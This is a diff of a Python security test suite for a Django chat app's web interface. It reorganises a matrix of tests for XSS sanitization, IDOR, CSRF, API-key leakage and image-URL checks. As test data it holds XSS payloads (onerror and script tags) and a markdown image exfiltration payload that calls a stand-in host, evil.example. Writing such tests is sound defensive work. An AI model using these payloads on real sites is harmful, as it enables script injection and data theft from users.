@@ -1,100 +1,119 @@
-"""The security test matrix: each item of the issue, and the tests that fail if its hole opens.
+"""The security matrix: every class of attack tried on qwenweb, what must hold, and the tests
+that fail if it opens again (in this file unless a path is given). README.md lists the same.
 
-Item, then the tests that cover it (in this file unless a path is given):
-
- 1  model output sanitized after markdown rendering (markdown-it, then nh3)
-      test_01_sanitizer_runs_after_markdown_rendering
-      test_01_markdown_layer_alone_emits_no_raw_html
+Model output is untrusted HTML
+  sanitized after markdown rendering (markdown-it, then nh3)
+      test_sanitizer_runs_after_markdown_rendering
+      test_markdown_layer_alone_emits_no_raw_html
       tests/test_rendering.py::test_nothing_executable_survives
- 2  `hx-*`, `on*`, `style`, `javascript:`/`data:`/`vbscript:` URLs (also mixed-case and
-    entity-encoded) stripped from model output
-      test_02_dangerous_markup_and_urls_are_stripped (each payload through the real pipeline,
+  `hx-*`, `on*`, `style`, `javascript:`/`data:`/`vbscript:` URLs (also mixed-case and
+  entity-encoded) stripped
+      test_dangerous_markup_and_urls_are_stripped (each payload through the real pipeline,
         and through one whose markdown stage lets raw HTML and any link through)
- 3  XSS split across stream chunks stays inert
-      test_03_xss_split_across_stream_chunks_stays_inert (real websocket, simulator chunks)
-      test_03_lean_frames_are_appended_as_text_by_chat_js
+  XSS split across stream chunks stays inert
+      test_xss_split_across_stream_chunks_stays_inert (real websocket, simulator chunks)
+      test_lean_frames_are_appended_as_text_by_chat_js
       tests/test_browser.py::test_model_output_is_sanitized_while_streaming_and_after
- 4  markdown image exfiltration blocked
-      test_04_markdown_image_is_never_an_img (and the image in test_03's streamed reply)
+  markdown image exfiltration blocked
+      test_markdown_image_is_never_an_img (and the image in the streamed reply above)
       tests/test_rendering.py::test_markdown_image_becomes_a_link_not_an_image
       tests/test_deploy_security.py (CSP img-src)
- 5  websocket with a foreign or missing Origin rejected
-      test_05_socket_with_a_foreign_or_missing_origin_is_rejected
+
+Who may open a socket, and what it may reach
+  a foreign or missing Origin is rejected
+      test_socket_with_a_foreign_or_missing_origin_is_rejected
       tests/test_consumer.py::test_socket_from_a_foreign_origin_is_rejected
- 6  anonymous websocket closed
-      test_06_anonymous_socket_is_closed
-      test_every_socket_needs_a_login
-      tests/test_consumer.py::test_anonymous_socket_is_closed
- 7  IDOR on every conversation route (page, earlier messages, socket, stop, rename, delete,
-    exports, settings) and in the lists
-      test_07_every_conversation_route_is_covered (URL conf enumerated: a new route fails it)
-      test_07_foreign_conversation_is_404_and_unchanged
-      test_07_socket_to_a_foreign_conversation_is_closed
-      test_07_stop_and_hello_on_own_socket_never_reach_another_users_reply
-      test_07_lists_show_only_own_conversations
-      test_07_new_chat_with_another_users_client_message_id_opens_no_foreign_chat
-      tests/test_views.py::test_foreign_conversation_is_404_on_every_route
-      tests/test_views.py::test_earlier_messages_of_a_foreign_chat_are_404
-      tests/test_views.py::test_home_lists_only_my_conversations_newest_first
-      tests/test_consumer.py::test_foreign_socket_is_closed
-      tests/test_browser.py::test_other_user_gets_404_and_no_sidebar_entry
- 8  frames of one user's conversation never reach another user's socket
-      test_08_frames_never_cross_users
- 9  logout closes the user's open sockets
-      tests/test_consumer.py (logout closes sockets)
-10  CSRF on every state-changing view
-      test_10_no_view_is_csrf_exempt (URL conf enumerated)
-      test_10_every_post_without_a_token_is_refused (URL conf enumerated, admin included)
-      test_10_state_changing_posts_without_a_token_change_nothing
-      test_10_admin_actions_without_a_token_change_nothing
-11  the API key never appears in HTML, frames, logs, error messages or exports
-      test_11_api_key_never_leaks
-      test_11_api_key_with_a_trailing_newline_never_leaks (a key read from a secret file)
-      test_a_key_echoed_by_the_upstream_is_never_stored_or_shown (request id, x-request-id,
-        error code and message, reply text: the client redacts them, conversations/dashscope/
-        sanitize.py)
-      tests/test_dashscope_client.py::test_key_echoed_into_request_ids_errors_and_reply_never_comes_out
-12  image URLs: absolute http(s) only; the server never fetches a URL itself
-      test_12_image_urls_must_be_http_or_https
-      test_12_refused_image_urls_save_nothing_over_socket_and_form
-      test_12_server_never_fetches_image_urls
-      tests/test_consumer.py::test_bad_image_urls_are_refused_before_anything_is_saved
-13  cookie flags, session fixation
-      tests/test_deploy_security.py
-14  login throttling
-      tests/test_deploy_security.py
-15  admin review requires the permission and is audited
-      test_15_staff_without_review_permission_gets_nothing
-      test_15_reviewer_reads_but_cannot_change
-      test_15_reviews_are_audited
-      test_15_own_conversations_are_not_audited
-      tests/test_admin.py::test_reviewer_reads_conversations_but_cannot_change_them
-      tests/test_admin.py::test_staff_without_review_permission_sees_no_conversations
-16  a forged model name or parameter over the socket is refused
-      tests/test_consumer.py (forged model name or parameter)
-17  manage.py check --deploy
-      tests/test_deploy_security.py
- -  every page and socket except the public ones requires a login
+  an anonymous socket is closed; every page and socket but the public ones needs a login
+      test_anonymous_socket_is_closed
       test_every_page_needs_a_login (URL conf enumerated, GET and POST)
       test_every_socket_needs_a_login
- -  NUL and the other invisible C0 controls never reach the database (PostgreSQL refuses NUL):
-    dropped from messages, titles and model output, refused in image URLs
-      tests/test_control_characters.py (on SQLite, and again on PostgreSQL:
-        test_the_same_on_postgresql)
- -  the offline demo's simulator takes orders only from the app: a control token and an API
-    key random per run, and only the newest 200 requests kept
+  IDOR on every conversation route (page, earlier messages, socket, stop, rename, delete,
+  exports, settings) and in the lists
+      test_every_conversation_route_is_covered (URL conf enumerated: a new route fails it)
+      test_foreign_conversation_is_404_and_unchanged
+      test_socket_to_a_foreign_conversation_is_closed
+      test_stop_and_hello_on_own_socket_never_reach_another_users_reply
+      test_lists_show_only_own_conversations
+      test_new_chat_with_another_users_client_message_id_opens_no_foreign_chat
+      tests/test_views.py::test_foreign_conversation_is_404_on_every_route
+      tests/test_consumer.py::test_foreign_socket_is_closed
+      tests/test_browser.py::test_other_user_gets_404_and_no_sidebar_entry
+  frames of one user's conversation never reach another user's socket
+      test_frames_never_cross_users
+  a forged model name or parameter over the socket is refused
+      tests/test_consumer.py::test_a_forged_model_or_parameters_in_a_frame_change_nothing_upstream
+
+Sessions
+  a logout closes that session's sockets, in every process
+      tests/test_consumer.py::test_logout_closes_the_sockets_of_that_session_and_no_other
+      tests/test_team_deployment.py::test_logout_through_one_process_closes_that_sessions_socket_on_the_other
+  a password change, a deactivation or a deleted session made where no signal reaches
+  (`manage.py shell`, another host) refuses the next frame of an open socket (4403)
+      test_a_session_ended_from_the_command_line_refuses_the_next_send (a real daphne, the
+        change made by a `manage.py shell` subprocess)
+  cookie flags, session fixation, login throttling, `check --deploy`
+      tests/test_deploy_security.py
+
+A socket's abuse costs a bounded amount
+  a bad frame (binary, not JSON, not an object, over 256 KiB) closes that socket with a code
+  of the app's own (4003, 4009) and a sentence; nothing of it stays behind
+      test_bad_frames_close_with_a_reason_and_leave_nothing_behind (1,000 bad-frame sockets
+        against 1,000 clean closes on a real daphne: registry, tasks, memory, log)
+      tests/test_consumer.py::test_a_bad_frame_closes_only_its_socket_and_the_others_keep_streaming
+  `hello` cannot amplify: ids de-duplicated and capped, answered at most once a second
+      test_hellos_are_deduplicated_capped_and_answered_at_most_once_a_window
+  a client that does not read is dropped once what waits for it passes
+  QWENWEB_SOCKET_BACKLOG_BYTES, and the server stops reading from it meanwhile
+      test_a_client_that_stops_reading_is_dropped_and_costs_bounded_memory
+
+CSRF
+      test_no_view_is_csrf_exempt (URL conf enumerated)
+      test_every_post_without_a_token_is_refused (URL conf enumerated, admin included)
+      test_state_changing_posts_without_a_token_change_nothing
+      test_admin_actions_without_a_token_change_nothing
+
+Secrets
+  the API key never appears in HTML, frames, logs, error messages or exports
+      test_api_key_never_leaks
+      test_api_key_with_a_trailing_newline_never_leaks (a key read from a secret file)
+  a key echoed by the upstream (request id, x-request-id, error code and message, reply
+  text) is redacted by the client before anything stores, logs, sends or exports it
+      test_a_key_echoed_by_the_upstream_is_never_stored_or_shown
+      tests/test_dashscope_client.py::test_key_echoed_into_request_ids_errors_and_reply_never_comes_out
+  the offline demo's simulator takes orders only from the app: a control token and an API
+  key random per run, and only the newest 200 requests kept
       test_the_offline_demo_simulator_takes_no_orders_from_other_local_processes
       tests/test_simulator.py::test_control_needs_the_token_when_one_is_set
       tests/test_simulator.py::test_the_record_keeps_only_the_newest_requests
 
+Input
+  image URLs: absolute http(s) only; the server never fetches a URL itself
+      test_image_urls_must_be_http_or_https
+      test_refused_image_urls_save_nothing_over_socket_and_form
+      test_server_never_fetches_image_urls
+      tests/test_consumer.py::test_bad_image_urls_are_refused_before_anything_is_saved
+  NUL and the other invisible C0 controls never reach the database (PostgreSQL refuses NUL):
+  dropped from messages, titles and model output, refused in image URLs
+      tests/test_control_characters.py (on SQLite, and again on PostgreSQL:
+        test_the_same_on_postgresql)
+
+Admin review
+  requires the permission, and is audited
+      test_staff_without_review_permission_gets_nothing
+      test_reviewer_reads_but_cannot_change
+      test_reviews_are_audited
+      test_own_conversations_are_not_audited
+      tests/test_admin.py::test_reviewer_reads_conversations_but_cannot_change_them
+      tests/test_admin.py::test_staff_without_review_permission_sees_no_conversations
+
 Decisions recorded here:
 
-- Image URLs (12): `http`/`https` only, absolute. Refused: `javascript:`, `data:`, `file:`,
+- Image URLs: `http`/`https` only, absolute. Refused: `javascript:`, `data:`, `file:`,
   `ftp:`, relative (`/x.png`) and protocol-relative (`//host/x.png`) URLs. Accepted: URLs
   with credentials (`https://user:pw@host/x.png`) and loopback or private hosts: the server
   never fetches an image URL, it only passes it to DashScope, which fetches it from its own
   network, and the credentials are the sender's own, shown only to them (and to reviewers).
-- Audit (15): a `LogEntry` against the conversation with a flag of its own (`REVIEWED` in
+- Audit: a `LogEntry` against the conversation with a flag of its own (`REVIEWED` in
   conversations/admin.py, not ADDITION/CHANGE/DELETION: a review changes nothing) and a
   plain-text change message ("Viewed for review", "Viewed message <pk> for review",
   "Exported as JSON for review"), shown on the conversation's History page in the admin, and
@@ -153,7 +172,7 @@ from tests.ws_support import (
 
 ROOT = Path(__file__).resolve().parent.parent
 
-# -- reading HTML as a browser would -----------------------------------------------------------
+# -- reading HTML as a browser would ---------------------------------------------------------------
 
 # Elements that load, run or restyle something, never acceptable from model output anywhere.
 LIVE_TAGS = {
@@ -222,7 +241,7 @@ def assert_inert(source: str, *, model_output_only: bool = False) -> Elements:
     return parsed
 
 
-# -- 1, 2. sanitized after rendering; dangerous markup and URLs stripped -----------------------
+# -- sanitized after rendering; dangerous markup and URLs stripped ---------------------------------
 
 
 def _permissive_markdown() -> MarkdownIt:
@@ -244,7 +263,7 @@ def pipeline(request, monkeypatch):
     render_markdown.cache_clear()
 
 
-def test_01_sanitizer_runs_after_markdown_rendering(monkeypatch):
+def test_sanitizer_runs_after_markdown_rendering(monkeypatch):
     """Whatever markdown-it produces goes through nh3: with raw HTML switched on and every
     link allowed in markdown-it, the output is still clean (so nh3 runs on markdown-it's
     output, not before it, and not on the input only)."""
@@ -264,7 +283,7 @@ def test_01_sanitizer_runs_after_markdown_rendering(monkeypatch):
         render_markdown.cache_clear()
 
 
-def test_01_markdown_layer_alone_emits_no_raw_html():
+def test_markdown_layer_alone_emits_no_raw_html():
     """The first layer on its own: markdown-it with raw HTML off escapes tags, and renders an
     image as a link (the sanitizer is the second layer, not the only one)."""
     out = rendering._markdown().render(
@@ -341,7 +360,7 @@ PAYLOADS = [
 
 
 @pytest.mark.parametrize("source", PAYLOADS)
-def test_02_dangerous_markup_and_urls_are_stripped(pipeline, source):
+def test_dangerous_markup_and_urls_are_stripped(pipeline, source):
     out = render_markdown(source)
     parsed = assert_inert(out, model_output_only=True)
     hrefs = [
@@ -350,7 +369,7 @@ def test_02_dangerous_markup_and_urls_are_stripped(pipeline, source):
     assert all(url_scheme(href) in SAFE_SCHEMES for href in hrefs), (source, out)
 
 
-# -- 3. XSS split across stream chunks stays inert ---------------------------------------------
+# -- XSS split across stream chunks stays inert ----------------------------------------------------
 
 XSS_REPLY = (
     "Look: <img src=x onerror=alert(1)> then <script>alert(2)</script> and "
@@ -364,7 +383,7 @@ XSS_REPLY = (
 
 @pytest.mark.asyncio
 @pytest.mark.django_db(transaction=True)
-async def test_03_xss_split_across_stream_chunks_stays_inert(app_simulator):
+async def test_xss_split_across_stream_chunks_stays_inert(app_simulator):
     """Over the real ASGI app: the simulator streams the reply a word per chunk, so every tag
     arrives in pieces. The lean `+` frames carry exactly the raw text (which chat.js appends as
     a text node, see the next test); a tab that opens mid-reply gets the partial text inside
@@ -414,7 +433,7 @@ async def test_03_xss_split_across_stream_chunks_stays_inert(app_simulator):
     await late.disconnect()
 
 
-def test_03_lean_frames_are_appended_as_text_by_chat_js():
+def test_lean_frames_are_appended_as_text_by_chat_js():
     """chat.js takes `+`/`~` frames away from htmx (preventDefault: htmx would swap them as
     HTML) and appends their text as a text node, never through an HTML parser."""
     source = (ROOT / "static/qwenweb/chat.js").read_text()
@@ -439,7 +458,7 @@ def test_03_lean_frames_are_appended_as_text_by_chat_js():
     assert "insertAdjacentHTML" not in source and "outerHTML" not in source
 
 
-# -- 4. markdown image exfiltration ------------------------------------------------------------
+# -- markdown image exfiltration -------------------------------------------------------------------
 
 EXFIL = "https://evil.example/leak?d=secret"
 
@@ -460,7 +479,7 @@ EXFIL = "https://evil.example/leak?d=secret"
         f"![x](<{EXFIL}>)",
     ],
 )
-def test_04_markdown_image_is_never_an_img(pipeline, source):
+def test_markdown_image_is_never_an_img(pipeline, source):
     """No element that the browser would fetch by itself: at most a link (which needs a
     click) or text. The CSP img-src half is in tests/test_deploy_security.py."""
     out = render_markdown(source)
@@ -471,7 +490,7 @@ def test_04_markdown_image_is_never_an_img(pipeline, source):
                 assert (tag, name) == ("a", "href"), (tag, name, out)
 
 
-# -- 5, 6. the socket's gate: Origin and login -------------------------------------------------
+# -- the socket's gate: Origin and login -----------------------------------------------------------
 
 
 @pytest.mark.parametrize(
@@ -490,7 +509,7 @@ def test_04_markdown_image_is_never_an_img(pipeline, source):
 )
 @pytest.mark.asyncio
 @pytest.mark.django_db(transaction=True)
-async def test_05_socket_with_a_foreign_or_missing_origin_is_rejected(origin):
+async def test_socket_with_a_foreign_or_missing_origin_is_rejected(origin):
     """Even with the owner's valid session (a cross-site page's socket carries the cookie):
     only an Origin of an allowed host gets through."""
     owner = await make_user("alice")
@@ -531,7 +550,7 @@ def _logged_out_cookie(user) -> str:
 
 @pytest.mark.asyncio
 @pytest.mark.django_db(transaction=True)
-async def test_06_anonymous_socket_is_closed():
+async def test_anonymous_socket_is_closed():
     """No session, a forged one, a signed-out one, or an inactive user's: closed with 4403,
     before anything is sent."""
     owner = await make_user("alice")
@@ -549,7 +568,7 @@ async def test_06_anonymous_socket_is_closed():
     assert (await _raw_socket(path, owner_cookie))[0], "the owner's own session must connect"
 
 
-# -- the URL conf, walked ----------------------------------------------------------------------
+# -- the URL conf, walked --------------------------------------------------------------------------
 
 # Dummy values for path converters and regex groups, to build a URL for every pattern.
 DUMMY_UUID = "00000000-0000-4000-8000-000000000000"
@@ -593,7 +612,7 @@ def conversation_url_names() -> set[str]:
     return {name for _path, name, converters in url_patterns() if "conversation_id" in converters}
 
 
-# -- 7. IDOR -----------------------------------------------------------------------------------
+# -- IDOR ------------------------------------------------------------------------------------------
 
 
 @pytest.fixture
@@ -652,7 +671,7 @@ IDOR_REQUESTS = {
 SOCKET_ROUTES = {"ws/c/<uuid:conversation_id>/"}
 
 
-def test_07_every_conversation_route_is_covered():
+def test_every_conversation_route_is_covered():
     """A new route that takes a conversation id makes this fail until IDOR_REQUESTS tries
     it; the same for a new websocket route."""
     assert conversation_url_names() == set(IDOR_REQUESTS)
@@ -664,7 +683,7 @@ def test_07_every_conversation_route_is_covered():
 @pytest.mark.django_db
 @pytest.mark.parametrize("htmx", [False, True], ids=["plain", "htmx"])
 @pytest.mark.parametrize("name", sorted(IDOR_REQUESTS))
-def test_07_foreign_conversation_is_404_and_unchanged(client, alices_chat, bob, name, htmx):
+def test_foreign_conversation_is_404_and_unchanged(client, alices_chat, bob, name, htmx):
     """bob, on alice's conversation: 404, exactly as for a conversation that does not exist,
     nothing of hers in the answer, and nothing of hers changed."""
     method, suffix, data = IDOR_REQUESTS[name]
@@ -689,7 +708,7 @@ def test_07_foreign_conversation_is_404_and_unchanged(client, alices_chat, bob, 
 
 
 @pytest.mark.django_db
-def test_07_lists_show_only_own_conversations(client, alices_chat, bob):
+def test_lists_show_only_own_conversations(client, alices_chat, bob):
     """bob's home page, his own chat page (sidebar) and his earlier-messages partial name none
     of alice's conversations, whatever `before` he passes. (There is no search outside the
     admin; the admin's is item 15's.)"""
@@ -714,7 +733,7 @@ def test_07_lists_show_only_own_conversations(client, alices_chat, bob):
 
 @pytest.mark.asyncio
 @pytest.mark.django_db(transaction=True)
-async def test_07_new_chat_with_another_users_client_message_id_opens_no_foreign_chat():
+async def test_new_chat_with_another_users_client_message_id_opens_no_foreign_chat():
     alice = await make_user("alice")
     bob = await make_user("bob")
     theirs = await make_conversation(alice)
@@ -732,7 +751,7 @@ async def test_07_new_chat_with_another_users_client_message_id_opens_no_foreign
 
 @pytest.mark.asyncio
 @pytest.mark.django_db(transaction=True)
-async def test_07_socket_to_a_foreign_conversation_is_closed():
+async def test_socket_to_a_foreign_conversation_is_closed():
     """bob cannot open alice's conversation's socket (so he cannot send, stop or continue
     on it either), whatever his session; alice's data is untouched."""
     alice = await make_user("alice")
@@ -754,7 +773,7 @@ REPLY_B = "bob-words " + " ".join(f"b{i}" for i in range(80))
 
 @pytest.mark.asyncio
 @pytest.mark.django_db(transaction=True)
-async def test_07_stop_and_hello_on_own_socket_never_reach_another_users_reply(app_simulator):
+async def test_stop_and_hello_on_own_socket_never_reach_another_users_reply(app_simulator):
     """While alice's reply streams, bob (on his own socket, with his own reply streaming)
     presses Stop, and sends a `hello` naming alice's reply: his reply stops, alice's finishes
     whole, and bob's socket gets nothing of hers."""
@@ -792,7 +811,7 @@ async def test_07_stop_and_hello_on_own_socket_never_reach_another_users_reply(a
     await ws_b.disconnect()
 
 
-# -- 8. frames never cross users ---------------------------------------------------------------
+# -- frames never cross users ----------------------------------------------------------------------
 
 
 def assert_frames_belong(frames: list[str], own_pks: set[int], own_id, other_id, other_word):
@@ -813,7 +832,7 @@ def assert_frames_belong(frames: list[str], own_pks: set[int], own_id, other_id,
 
 @pytest.mark.asyncio
 @pytest.mark.django_db(transaction=True)
-async def test_08_frames_never_cross_users(app_simulator):
+async def test_frames_never_cross_users(app_simulator):
     """alice (two tabs) and bob stream at the same time on the in-memory layer: every frame
     each socket gets is about its own conversation's messages."""
     app_simulator.add_scenario(Scenario(match="from-alice", reply=REPLY_A, token_delay=0.01))
@@ -851,13 +870,13 @@ async def test_08_frames_never_cross_users(app_simulator):
         await ws.disconnect()
 
 
-# -- 10. CSRF ----------------------------------------------------------------------------------
+# -- CSRF ------------------------------------------------------------------------------------------
 
 # Views that may take a POST without a CSRF token, each with its reason. None so far.
 CSRF_EXEMPT_ALLOWED: dict[str, str] = {}
 
 
-def test_10_no_view_is_csrf_exempt():
+def test_no_view_is_csrf_exempt():
     exempt = {
         name or path
         for path, name, _ in url_patterns()
@@ -877,7 +896,7 @@ def _refused_for_csrf(response) -> bool:
 
 
 @pytest.mark.django_db
-def test_10_every_post_without_a_token_is_refused(alices_chat, alice, admin_user):
+def test_every_post_without_a_token_is_refused(alices_chat, alice, admin_user):
     """Every URL in the URL conf, POSTed without a token by a signed-in user (the owner of the
     conversation the URL names, or a superuser for the admin), is refused by the CSRF check."""
     owner = _csrf_client(alice)
@@ -894,7 +913,7 @@ def test_10_every_post_without_a_token_is_refused(alices_chat, alice, admin_user
 
 
 @pytest.mark.django_db
-def test_10_state_changing_posts_without_a_token_change_nothing(alices_chat, alice):
+def test_state_changing_posts_without_a_token_change_nothing(alices_chat, alice):
     """Each state-changing view, without a token: 403 and nothing changed; with the token the
     same request works (so the 403 is the CSRF check's, not something else)."""
     client = _csrf_client(alice)
@@ -933,7 +952,7 @@ def test_10_state_changing_posts_without_a_token_change_nothing(alices_chat, ali
 
 
 @pytest.mark.django_db
-def test_10_admin_actions_without_a_token_change_nothing(alices_chat, admin_user):
+def test_admin_actions_without_a_token_change_nothing(alices_chat, admin_user):
     client = _csrf_client(admin_user)
     changelist = "/admin/conversations/conversation/"
     profile = ModelProfile.objects.first()
@@ -960,7 +979,7 @@ def test_10_admin_actions_without_a_token_change_nothing(alices_chat, admin_user
     assert admin_user.check_password("password")
 
 
-# -- 11. the API key never leaks ---------------------------------------------------------------
+# -- the API key never leaks -----------------------------------------------------------------------
 
 WRONG_KEY = "sk-wrong-key-0d7e61b5a2"
 
@@ -1031,7 +1050,7 @@ def _capture_all_logs(caplog) -> None:
 
 @pytest.mark.asyncio
 @pytest.mark.django_db(transaction=True)
-async def test_11_api_key_never_leaks(app_simulator, settings, caplog):
+async def test_api_key_never_leaks(app_simulator, settings, caplog):
     """A chat with the app's key: a normal reply, an auth error and upstream errors whose
     message echoes the key (before the stream, mid-stream, native and OpenAI-compatible), then
     a wrong key. Neither key is in any frame, page, export, admin page, saved message or log
@@ -1098,7 +1117,7 @@ async def test_11_api_key_never_leaks(app_simulator, settings, caplog):
 
 @pytest.mark.asyncio
 @pytest.mark.django_db(transaction=True)
-async def test_11_api_key_with_a_trailing_newline_never_leaks(app_simulator, settings, caplog):
+async def test_api_key_with_a_trailing_newline_never_leaks(app_simulator, settings, caplog):
     _capture_all_logs(caplog)
     settings.DASHSCOPE_API_KEY = APP_API_KEY + "\n"
     reset_clients()
@@ -1219,7 +1238,7 @@ def test_the_offline_demo_simulator_takes_no_orders_from_other_local_processes(s
         upstream._simulator = None
 
 
-# -- 12. image URLs ----------------------------------------------------------------------------
+# -- image URLs ------------------------------------------------------------------------------------
 
 ACCEPTED_IMAGE_URLS = [
     "https://example.com/cat.png",
@@ -1249,7 +1268,7 @@ REFUSED_IMAGE_URLS = [
 
 
 @pytest.mark.parametrize("url", ACCEPTED_IMAGE_URLS + REFUSED_IMAGE_URLS)
-def test_12_image_urls_must_be_http_or_https(url):
+def test_image_urls_must_be_http_or_https(url):
     if url in ACCEPTED_IMAGE_URLS:
         assert chat.clean_image_urls(url) == [url]
     else:
@@ -1262,7 +1281,7 @@ def test_12_image_urls_must_be_http_or_https(url):
 
 @pytest.mark.asyncio
 @pytest.mark.django_db(transaction=True)
-async def test_12_refused_image_urls_save_nothing_over_socket_and_form(app_simulator):
+async def test_refused_image_urls_save_nothing_over_socket_and_form(app_simulator):
     owner = await make_user("alice")
     conversation = await make_conversation(owner, model_name="qwen3-vl-plus")
     ws, _, _ = await connect(owner, conversation)
@@ -1314,7 +1333,7 @@ def local_http_server():
 
 @pytest.mark.asyncio
 @pytest.mark.django_db(transaction=True)
-async def test_12_server_never_fetches_image_urls(app_simulator, local_http_server):
+async def test_server_never_fetches_image_urls(app_simulator, local_http_server):
     """Private and loopback addresses are refused if the server ever fetches: it does not;
     this test fails if it starts to. Image URLs sent to a vision model (over the socket and
     through the home page's form) pointing at a server on 127.0.0.1 are only passed on to
@@ -1352,7 +1371,7 @@ async def test_12_server_never_fetches_image_urls(app_simulator, local_http_serv
     assert hits == ["GET /probe"]
 
 
-# -- 15. admin review: permission and audit ----------------------------------------------------
+# -- admin review: permission and audit ------------------------------------------------------------
 
 
 def _staff(django_user_model, username: str, *perms: str):
@@ -1377,7 +1396,7 @@ def _admin_urls(conversation: Conversation) -> dict[str, str]:
 
 
 @pytest.mark.django_db
-def test_15_staff_without_review_permission_gets_nothing(client, django_user_model, alices_chat):
+def test_staff_without_review_permission_gets_nothing(client, django_user_model, alices_chat):
     staff = _staff(django_user_model, "sam", "view_modelprofile", "view_systemprompt")
     client.force_login(staff)
     for what, url in _admin_urls(alices_chat).items():
@@ -1398,7 +1417,7 @@ def test_15_staff_without_review_permission_gets_nothing(client, django_user_mod
 
 
 @pytest.mark.django_db
-def test_15_reviewer_reads_but_cannot_change(client, django_user_model, alices_chat):
+def test_reviewer_reads_but_cannot_change(client, django_user_model, alices_chat):
     reviewer = _staff(django_user_model, "rita", "review_conversation")
     client.force_login(reviewer)
     urls = _admin_urls(alices_chat)
@@ -1423,7 +1442,7 @@ def test_15_reviewer_reads_but_cannot_change(client, django_user_model, alices_c
 
 
 @pytest.mark.django_db
-def test_15_reviews_are_audited(client, django_user_model, alices_chat, caplog):
+def test_reviews_are_audited(client, django_user_model, alices_chat, caplog):
     """Opening someone else's conversation or message, or exporting it, in the admin leaves
     a record naming the reviewer, the conversation and the time, on the conversation's
     History page and on the qwenweb.audit logger."""
@@ -1467,7 +1486,7 @@ def test_15_reviews_are_audited(client, django_user_model, alices_chat, caplog):
 
 
 @pytest.mark.django_db
-def test_15_own_conversations_are_not_audited(client, django_user_model, alices_chat):
+def test_own_conversations_are_not_audited(client, django_user_model, alices_chat):
     """Only reading someone else's conversation is a review; refused requests are none."""
     alice = alices_chat.owner
     alice.is_staff = True
@@ -1481,7 +1500,7 @@ def test_15_own_conversations_are_not_audited(client, django_user_model, alices_
     assert not LogEntry.objects.exists()
 
 
-# -- every page and socket needs a login -------------------------------------------------------
+# -- every page and socket needs a login -----------------------------------------------------------
 
 # Anyone may use these: signing in, the health check, and choosing the language of the sign-in
 # page (a cookie and a redirect; it shows and changes no one's data, and CSRF applies).
@@ -1521,7 +1540,7 @@ async def test_every_socket_needs_a_login():
         assert await _raw_socket(path, None) == (False, 4403), path
 
 
-# -- a socket's abuse costs a bounded amount, on a real daphne ---------------------------------
+# -- a socket's abuse costs a bounded amount, on a real daphne -------------------------------------
 #
 # These run against a daphne process of their own (its log and its figures are read), through
 # the `websockets` client: daphne's websocket layer (autobahn) is where a bad close code and
@@ -1689,8 +1708,11 @@ def test_bad_frames_close_with_a_reason_and_leave_nothing_behind(own_server):
     codes = {code for code, _reason in closes}
     assert len(closes) == 1000 and codes == {4003, 4009}, codes
     assert all(reason for _code, reason in closes)
-    assert {"This connection takes JSON objects only.", "This connection takes text messages "
-            "only.", "That message was too large to handle."} == {r for _c, r in closes}  # fmt: skip
+    assert {reason for _code, reason in closes} == {
+        "This connection takes JSON objects only.",
+        "This connection takes text messages only.",
+        "That message was too large to handle.",
+    }
     assert after_clean["sockets"] == after_bad["sockets"] == 0, (after_clean, after_bad)
     assert after_bad["tasks"] <= after_clean["tasks"] + 2, (before, after_clean, after_bad)
     grown_clean = after_clean["rss_bytes"] - before["rss_bytes"]
